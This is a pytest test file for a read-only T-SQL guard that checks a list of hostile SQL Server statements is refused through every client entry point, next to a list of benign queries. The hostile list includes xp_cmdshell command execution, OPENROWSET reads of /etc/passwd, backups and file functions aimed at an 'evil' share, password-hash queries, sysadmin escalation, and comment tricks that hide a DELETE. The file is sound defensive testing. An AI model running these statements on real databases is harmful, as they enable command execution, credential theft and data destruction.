"""What SQL Server can be attacked with, and what people honestly ask it: judged in T-SQL, and by every door."""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from dbmcp_core import Client, Refused, connect
from dbmcp_core.guard import judge
from dbmcp_core.statement import Kind

_PATH = Path(__file__).parents[1] / "servers" / "tds" / "harness.py"
_spec = importlib.util.spec_from_file_location("mssql_harness", _PATH)
assert _spec is not None
assert _spec.loader is not None
harness = sys.modules.setdefault("mssql_harness", importlib.util.module_from_spec(_spec))
_spec.loader.exec_module(harness)

#: One a line; a line that begins with a blank goes on from the one before.
ATTACKS = r"""
EXEC xp_cmdshell 'whoami'
EXECUTE xp_cmdshell 'whoami'
EXEC master..xp_cmdshell 'whoami'
EXEC master.dbo.xp_cmdshell 'whoami'
exec [master].[dbo].[xp_cmdshell] 'whoami'
xp_cmdshell 'whoami'
sp_configure 'xp_cmdshell', 1
sp_who
master..sp_who2
[sp_who]
"sp_who"
EXEC sp_executesql N'DELETE FROM t'
EXEC ('DELETE FROM t')
EXECUTE ('DELETE FROM t') AS USER = 'dbo'
EXEC ('DELETE FROM t') AT linked
EXEC sp_OACreate 'WScript.Shell', 1
EXEC sp_addrolemember 'db_owner', 'x'
EXEC xp_regread 'HKEY_LOCAL_MACHINE', 'x', 'y'
EXEC xp_dirtree '\\evil\share'
EXEC xp_fileexist 'c:\x'
EXEC sp_set_session_context 'k', 'v'
EXEC sp_getapplock 'a', 'Exclusive'
{call xp_cmdshell('whoami')}
{? = call sp_who}
{call sp_executesql(N'DELETE FROM t')}
SELECT 1 {call sp_who}
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')
SELECT * FROM OPENROWSET(BULK 'c:\secret.txt', SINGLE_CLOB) AS x
SELECT * FROM OPENROWSET(BULK N'/etc/passwd', SINGLE_BLOB) AS x(c)
SELECT * FROM OPENQUERY(linked, 'DELETE FROM t')
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t
SELECT * FROM linked.db.dbo.t
SELECT * FROM [linked].[db].[dbo].[t]
SELECT * FROM linked...t
SELECT * INTO t2 FROM t
SELECT a INTO #x FROM t
SELECT a INTO ##x FROM t
SELECT 1 AS a INTO dbo.t2
SELECT a, b INTO t2 FROM (SELECT 1 AS a, 2 AS b) AS s
WITH c AS (SELECT 1 AS a) SELECT a INTO t2 FROM c
INSERT INTO t VALUES (1)
INSERT t VALUES (1)
INSERT t DEFAULT VALUES
INSERT INTO t EXEC sp_who
INSERT TOP (1) INTO t SELECT 1
INSERT INTO OPENQUERY(linked, 'SELECT a FROM t') VALUES (1)
UPDATE t SET a = 1
UPDATE TOP (1) t SET a = 1
UPDATE s SET a = 1 FROM t AS s
UPDATE STATISTICS t
UPDATETEXT t.a @p 0 0 'x'
WRITETEXT t.a @p 'x'
DELETE t
DELETE FROM t
DELETE TOP (1) FROM t
DELETE s FROM t AS s
WITH c AS (SELECT * FROM t) DELETE FROM c
WITH c AS (SELECT * FROM t) UPDATE c SET a = 1
WITH c AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM c
WITH c AS (SELECT 1 AS a) MERGE t USING c ON t.a = c.a WHEN MATCHED THEN DELETE;
MERGE t USING u ON t.a = u.a WHEN MATCHED THEN DELETE;
MERGE INTO t USING u ON t.a = u.a WHEN NOT MATCHED THEN INSERT (a) VALUES (1);
TRUNCATE TABLE t
SELECT * FROM (DELETE FROM t OUTPUT deleted.*) AS x
SELECT * FROM (MERGE t USING u ON t.a = u.a WHEN MATCHED THEN DELETE OUTPUT deleted.a) AS x
SELECT * FROM (UPDATE t SET a = 1 OUTPUT inserted.a) AS x
CREATE TABLE x (a int)
CREATE TABLE #x (a int)
CREATE VIEW v AS SELECT 1 AS a
CREATE PROCEDURE p AS DELETE FROM t
CREATE OR ALTER PROCEDURE p AS DELETE FROM t
CREATE FUNCTION f() RETURNS int AS BEGIN RETURN 1 END
CREATE TRIGGER g ON t AFTER INSERT AS DELETE FROM t
CREATE LOGIN x WITH PASSWORD = 'x'
CREATE USER x FOR LOGIN x
CREATE ASSEMBLY x FROM 0x4D5A
CREATE DATABASE x
CREATE INDEX i ON t (a)
CREATE SEQUENCE s
CREATE SYNONYM s FOR t
CREATE TYPE y FROM int
ALTER TABLE t ADD b int
ALTER TABLE t DISABLE TRIGGER ALL
DISABLE TRIGGER g ON t
ENABLE TRIGGER g ON t
ALTER DATABASE x SET TRUSTWORTHY ON
ALTER LOGIN sa ENABLE
ALTER SERVER ROLE sysadmin ADD MEMBER x
ALTER INDEX ALL ON t REBUILD
ALTER AUTHORIZATION ON t TO x
DROP TABLE t
DROP TABLE IF EXISTS t
DROP DATABASE x
DROP INDEX i ON t
GRANT SELECT ON t TO public
DENY SELECT ON t TO public
REVOKE SELECT ON t FROM public
BACKUP DATABASE x TO DISK = '\\evil\x'
RESTORE DATABASE x FROM DISK = 'x'
RESTORE FILELISTONLY FROM DISK = '\\evil\x'
BULK INSERT t FROM 'c:\x'
DBCC CHECKDB
DBCC FREEPROCCACHE
KILL 51
SHUTDOWN
SHUTDOWN WITH NOWAIT
RECONFIGURE
CHECKPOINT
WAITFOR DELAY '00:10:00'
WAITFOR TIME '23:00'
SELECT 1 WAITFOR DELAY '00:00:10'
USE master
SET IDENTITY_INSERT t ON
SET IMPLICIT_TRANSACTIONS OFF
SET XACT_ABORT OFF
SET LOCK_TIMEOUT -1
SET QUOTED_IDENTIFIER OFF
SET NOEXEC ON
SET CONTEXT_INFO 0x01
SETUSER 'dbo'
EXECUTE AS USER = 'dbo'
EXECUTE AS LOGIN = 'sa'
REVERT
BEGIN TRAN
BEGIN TRANSACTION
COMMIT
COMMIT TRAN
ROLLBACK
SAVE TRANSACTION a
COMMIT; DELETE FROM t
SELECT 1 COMMIT
SELECT 1 COMMIT TRAN DELETE FROM t
SELECT a FROM t COMMIT BEGIN TRAN
SELECT 1; DELETE FROM t
SELECT 1 DELETE FROM t
SELECT a FROM t DELETE t
SELECT a FROM t t2 UPDATE t SET a = 1
SELECT 1 EXEC sp_who
SELECT 1 AS a EXEC('DELETE FROM t')
SELECT a FROM t WHERE a = 1 EXEC sp_who
SELECT 1 DROP TABLE t
SELECT 1 IF 1 = 1 DELETE FROM t
SELECT 1 WHILE 1 = 1 SELECT 1
SELECT 1 DECLARE @a int
SELECT 1 USE master
SELECT 1 USE hint
SELECT 1 USE hint DELETE FROM t
SELECT 1 USE HINT('x') DELETE FROM t
SELECT 1 SET XACT_ABORT OFF
SELECT 1 SHUTDOWN
SELECT 1 KILL 51
SELECT 1 GRANT SELECT ON t TO public
SELECT 1 BACKUP DATABASE x TO DISK = 'x'
SELECT 1 PRINT 'x'
SELECT 1 RAISERROR('x', 16, 1)
SELECT 1 RECONFIGURE
SELECT 1 TRUNCATE TABLE t
SELECT 1 INSERT t VALUES (1)
SELECT 1 MERGE t USING u ON t.a = u.a WHEN MATCHED THEN DELETE;
DECLARE @a int = 1
DECLARE @s nvarchar(max) = N'DELETE FROM t'; EXEC(@s)
DECLARE c CURSOR FOR SELECT 1
IF 1 = 1 DELETE FROM t
IF EXISTS (SELECT 1) DELETE FROM t
WHILE 1 = 1 SELECT 1
BEGIN DELETE FROM t END
BEGIN TRY DELETE FROM t END TRY BEGIN CATCH END CATCH
GOTO x
PRINT 'x'
RAISERROR('x', 20, 1) WITH LOG
THROW 50000, 'x', 1
OPEN c
FETCH NEXT FROM c
RECEIVE * FROM q
SEND ON CONVERSATION 'x' ('y')
BEGIN DIALOG @h FROM SERVICE a TO SERVICE 'b'
GET CONVERSATION GROUP @g FROM q
ADD SIGNATURE TO t BY CERTIFICATE c
OPEN SYMMETRIC KEY k DECRYPTION BY PASSWORD = 'x'
OPEN MASTER KEY DECRYPTION BY PASSWORD = 'x'
SELECT NEXT VALUE FOR s
SELECT NEXT VALUE FOR s OVER (ORDER BY a) FROM t
SELECT * FROM t WITH (UPDLOCK)
SELECT * FROM t WITH (XLOCK, ROWLOCK)
SELECT * FROM t WITH (TABLOCKX)
SELECT * FROM t (HOLDLOCK)
SELECT * FROM t WITH (SERIALIZABLE)
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x*.xel', NULL, NULL, NULL)
SELECT * FROM fn_trace_gettable('\\evil\x.trc', 1)
SELECT * FROM sys.fn_get_audit_file('\\evil\x', NULL, NULL)
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
SELECT * FROM sys.dm_os_file_exists('\\evil\x')
SELECT LOGINPROPERTY('sa', 'PasswordHash')
SELECT PWDCOMPARE('x', 0x0200)
SELECT * FROM fn_dblog(NULL, NULL)
SELECT password_hash FROM sys.sql_logins
SELECT * FROM master.sys.sql_logins
SELECT * FROM OPENXML(1, '/a') WITH (a int)
SELECT * FROM CHANGETABLE(CHANGES t, 0) AS c; DELETE FROM t
SELECT '/*' DELETE FROM t --*/'
SELECT 1 /* /* */ DELETE FROM t -- */ */
SELECT "a' DELETE FROM t --'
/* SELECT */ DELETE FROM t
-- SELECT
 DELETE FROM t
SELECT 1 --
 DELETE FROM t
SELECT [a]] DELETE FROM t --] FROM t; DELETE FROM t
SELECT 1 AS [x] DELETE FROM t
SELECT 1.DELETE FROM t
SELECT 1eDELETE FROM t
SELECT N'x'DELETE FROM t
SELECT 'x'EXEC sp_who
SELECT(1)DELETE FROM t
SELECT @@SPID KILL 51
LINENO 5 DELETE FROM t
DUMP DATABASE x TO DISK = 'x'
LOAD DATABASE x FROM DISK = 'x'
READTEXT t.a 0x00 0 1
GO
SELECT 1
 GO
 DELETE FROM t
"""

HONEST = r"""
SELECT 1
SELECT 1 AS [delete], 2 AS "drop table"
SELECT TOP 10 * FROM t
SELECT TOP (10) * FROM t ORDER BY a DESC
SELECT TOP 5 PERCENT * FROM t
SELECT TOP (3) WITH TIES a FROM t ORDER BY a
SELECT DISTINCT a FROM dbo.t
SELECT a FROM db.dbo.t
SELECT a FROM db..t
SELECT [a b], [c]]d] FROM [my table]
SELECT "a b" FROM "my table"
SELECT N'héllo', 'it''s', N'DELETE FROM t; --'
SELECT a FROM t WITH (NOLOCK)
SELECT a FROM t (NOLOCK)
SELECT a FROM t WITH (INDEX(ix_a), NOLOCK)
SELECT a FROM t WITH (READPAST)
SELECT a FROM t OPTION (MAXDOP 1)
SELECT a FROM t OPTION (RECOMPILE)
SELECT a FROM t ORDER BY a OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY
SELECT a FROM t ORDER BY a OFFSET 0 ROWS
WITH c AS (SELECT a FROM t) SELECT * FROM c
WITH c (x, y) AS (SELECT a, b FROM t), d AS (SELECT x FROM c) SELECT * FROM d
WITH n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n OPTION (MAXRECURSION 100)
SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 1
SELECT a, b, SUM(c) FROM t GROUP BY ROLLUP (a, b)
SELECT a, b, SUM(c) FROM t GROUP BY GROUPING SETS ((a), (b), ())
SELECT a, b, SUM(c) FROM t GROUP BY CUBE (a, b)
SELECT GROUPING(a), SUM(b) FROM t GROUP BY ROLLUP (a)
SELECT ROW_NUMBER() OVER (PARTITION BY a ORDER BY b) AS r FROM t
SELECT SUM(a) OVER (ORDER BY b ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) FROM t
SELECT LAG(a, 1, 0) OVER (ORDER BY b), LEAD(a) OVER (ORDER BY b) FROM t
SELECT NTILE(4) OVER (ORDER BY a), RANK() OVER (ORDER BY a), DENSE_RANK() OVER (ORDER BY a) FROM t
SELECT FIRST_VALUE(a) OVER (ORDER BY b) FROM t
SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY a) OVER (PARTITION BY b) FROM t
SELECT STRING_AGG(a, ', ') WITHIN GROUP (ORDER BY a) FROM t
SELECT STUFF((SELECT ',' + a FROM t FOR XML PATH('')), 1, 1, '')
SELECT a FROM t FOR JSON PATH
SELECT a FROM t FOR JSON AUTO, ROOT('x')
SELECT a FROM t FOR XML AUTO
SELECT a.x, b.y FROM t AS a INNER JOIN u AS b ON a.id = b.id
SELECT * FROM t LEFT OUTER JOIN u ON t.id = u.id RIGHT JOIN v ON u.id = v.id FULL JOIN w ON v.id = w.id
SELECT * FROM t CROSS JOIN u
SELECT * FROM t CROSS APPLY (SELECT TOP 1 * FROM u WHERE u.id = t.id) AS x
SELECT * FROM t OUTER APPLY dbo.parts_of(t.a) AS s
SELECT * FROM t, u WHERE t.id = u.id
SELECT value FROM STRING_SPLIT('a,b', ',')
SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v (id, name)
SELECT * FROM t PIVOT (SUM(a) FOR b IN ([x], [y])) AS p
SELECT * FROM t UNPIVOT (v FOR k IN (a, b)) AS u
SELECT a FROM t UNION SELECT a FROM u
SELECT a FROM t UNION ALL SELECT a FROM u EXCEPT SELECT a FROM v INTERSECT SELECT a FROM w
SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)
SELECT a FROM t WHERE a IN (SELECT a FROM u) AND b NOT IN (1, 2)
SELECT a FROM t WHERE a > ALL (SELECT a FROM u) OR a = ANY (SELECT a FROM u)
SELECT a FROM t WHERE b LIKE '%[a-z]_' ESCAPE '\'
SELECT a FROM t WHERE b BETWEEN '2024-01-01' AND '2024-12-31'
SELECT a FROM t WHERE b IS NOT NULL AND NOT (c = 1)
SELECT a FROM t WHERE b COLLATE Latin1_General_CI_AS = 'x'
SELECT CASE WHEN a = 1 THEN 'insert' ELSE 'update' END FROM t
SELECT IIF(a > 1, 'x', 'y'), CHOOSE(2, 'a', 'b'), NULLIF(a, 0), COALESCE(a, b), ISNULL(a, 0) FROM t
SELECT CAST(a AS decimal(10, 2)), CONVERT(varchar(10), b, 120), TRY_CAST(a AS int), TRY_CONVERT(int, a) FROM t
SELECT PARSE('1' AS int), TRY_PARSE('1' AS int)
SELECT CAST(a AS nvarchar(max)), CAST(a AS datetime2(7)), CAST(a AS uniqueidentifier) FROM t
SELECT GETDATE(), SYSDATETIME(), GETUTCDATE(), SYSDATETIMEOFFSET(), CURRENT_TIMESTAMP
SELECT DATEADD(day, 1, a), DATEDIFF(day, a, b), DATEPART(year, a), DATENAME(month, a), EOMONTH(a) FROM t
SELECT YEAR(a), MONTH(a), DAY(a), DATEFROMPARTS(2024, 1, 1), ISDATE('x') FROM t
SELECT a AT TIME ZONE 'UTC' FROM t
SELECT DATETRUNC(month, a) FROM t
SELECT LEN(a), DATALENGTH(a), UPPER(a), LOWER(a), LTRIM(RTRIM(a)), TRIM(a) FROM t
SELECT SUBSTRING(a, 1, 2), LEFT(a, 1), RIGHT(a, 1), CHARINDEX('x', a), PATINDEX('%x%', a) FROM t
SELECT REPLACE(a, 'x', 'y'), REPLICATE('x', 3), REVERSE(a), SPACE(2), STUFF(a, 1, 1, 'x') FROM t
SELECT CONCAT(a, b), CONCAT_WS(',', a, b), a + N'x', FORMAT(a, 'N2'), TRANSLATE(a, 'x', 'y') FROM t
SELECT ABS(a), CEILING(a), FLOOR(a), ROUND(a, 2), POWER(a, 2), SQRT(a), a % 2, a & 1, a | 1, a ^ 1, ~a FROM t
SELECT AVG(a), MIN(a), MAX(a), STDEV(a), VAR(a), COUNT_BIG(*), CHECKSUM_AGG(b) FROM t
SELECT APPROX_COUNT_DISTINCT(a) FROM t
SELECT NEWID(), RAND(), CHECKSUM(a), HASHBYTES('SHA2_256', a), BINARY_CHECKSUM(a) FROM t
SELECT JSON_VALUE(a, '$.x'), JSON_QUERY(a, '$.y'), ISJSON(a) FROM t
SELECT * FROM OPENJSON('[1,2]')
SELECT * FROM t CROSS APPLY OPENJSON(t.j) WITH (id int '$.id', name nvarchar(50) '$.name') AS j
SELECT a.value('(/x)[1]', 'int') FROM t
SELECT x.n.value('.', 'int') FROM t CROSS APPLY t.a.nodes('/x') AS x(n)
SELECT DB_NAME(), SUSER_SNAME(), USER_NAME(), @@VERSION, @@SERVERNAME, @@SPID, SERVERPROPERTY('Edition')
SELECT name FROM sys.tables
SELECT s.name, t.name FROM sys.tables AS t JOIN sys.schemas AS s ON s.schema_id = t.schema_id
SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES WHERE TABLE_TYPE = 'BASE TABLE'
SELECT COLUMN_NAME, DATA_TYPE FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_NAME = 't'
SELECT OBJECT_ID('dbo.t'), OBJECT_NAME(1), SCHEMA_NAME(1), COL_NAME(1, 1), TYPE_NAME(56)
SELECT OBJECT_DEFINITION(OBJECT_ID('dbo.v'))
SELECT definition FROM sys.sql_modules WHERE object_id = OBJECT_ID('dbo.p')
SELECT * FROM sys.dm_exec_requests
SELECT SUM(row_count) FROM sys.dm_db_partition_stats WHERE index_id < 2
SELECT dbo.total(a) FROM t
SELECT * FROM dbo.orders_of(5)
SELECT a FROM t WHERE id = ?
SELECT a FROM t WHERE id = @id AND name LIKE @name
SELECT a FROM t TABLESAMPLE (10 PERCENT)
SELECT a FROM t FOR SYSTEM_TIME AS OF '2024-01-01'
SELECT a FROM t FOR SYSTEM_TIME ALL
SELECT geo.STAsText(), geo.STDistance(g) FROM t
SELECT node.ToString(), node.GetLevel() FROM t
SELECT $1.5, 0x1F, 1e10, -1.5, .5
SELECT a AS 'quoted alias', b = 1, [c] = 2 FROM t
SELECT 1 -- DELETE FROM t
/* DROP TABLE t */ SELECT 1
SELECT /* nested /* comment */ here */ 1
SELECT a FROM #temp
SELECT a FROM tempdb..#temp
SELECT MAX(v) FROM (VALUES (1), (2)) AS x(v)
SELECT t.* FROM t WHERE t.[update] = 1 AND t.[select] = 2
SELECT a FROM t WHERE CONTAINS(a, 'word')
SELECT a FROM t WHERE FREETEXT(a, 'some words')
SELECT k.[RANK], t.a FROM t JOIN CONTAINSTABLE(t, a, 'word') AS k ON t.id = k.[KEY]
SELECT a FROM t INNER HASH JOIN u ON t.id = u.id
SELECT a FROM t WHERE a = 1;
SELECT is_disabled, create_date, modify_date FROM sys.objects
SELECT a FROM t GROUP BY a ORDER BY COUNT(*) DESC
SELECT GENERATE_SERIES.value FROM GENERATE_SERIES(1, 10)
SELECT GREATEST(1, 2), LEAST(1, 2)
SELECT a FROM t WHERE a IS DISTINCT FROM b
SELECT CURRENT_USER, SESSION_USER, SYSTEM_USER, HOST_NAME(), APP_NAME()
"""


def lines(text: str) -> list[str]:
    return text.strip("\n").replace("\n ", "\x00").split("\n")


def texts(text: str) -> list[str]:
    return [line.replace("\x00", "\n") for line in lines(text)]


@pytest.mark.parametrize("text", texts(ATTACKS))
def test_an_attack_is_no_read(text: str) -> None:
    assert judge(text, "tsql").kind is not Kind.READ


@pytest.mark.parametrize("text", texts(HONEST))
def test_an_honest_question_is_a_read(text: str) -> None:
    verdict = judge(text, "tsql")
    assert verdict.kind is Kind.READ, verdict.reason


@pytest.fixture(scope="module")
def reader() -> Iterator[Client]:
    """A read-only client of an account that may do everything, with the table ``t`` to destroy."""
    with harness.running() as server:
        settings = server.create_database()
        server.execute("CREATE TABLE t (a int NOT NULL PRIMARY KEY)", settings["database"])
        server.execute("INSERT INTO t (a) VALUES (1)", settings["database"])
        how = {"encrypt": "no"} if server.is_private else {}
        with connect("mssql://", **settings, **how, driver=harness.driver("freetds")) as client:
            yield client
        server.drop_database(settings["database"])


def _by_class() -> list[str]:
    """Return the guard's own corpus of attacks on T-SQL."""
    path = Path(__file__).parents[1] / "core" / "guard" / "test_tsql_hostile.py"
    spec = importlib.util.spec_from_file_location("tsql_hostile", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return [text for _, text in module.texts(module.HOSTILE)]


def test_no_attack_comes_through_any_door(reader: Client) -> None:
    passed: list[str] = []
    for text in texts(ATTACKS) + _by_class():
        doors: list[Any] = [reader.query, reader.execute, reader.explain]
        for door in doors:
            try:
                door(text)
            except Refused:
                continue
            passed.append(f"{door.__name__}: {text}")
    assert passed == []
    assert reader.query("SELECT a FROM t").rows == ((1,),)
    assert [str(name) for name in reader.get_tables()] == ["dbo.t"]
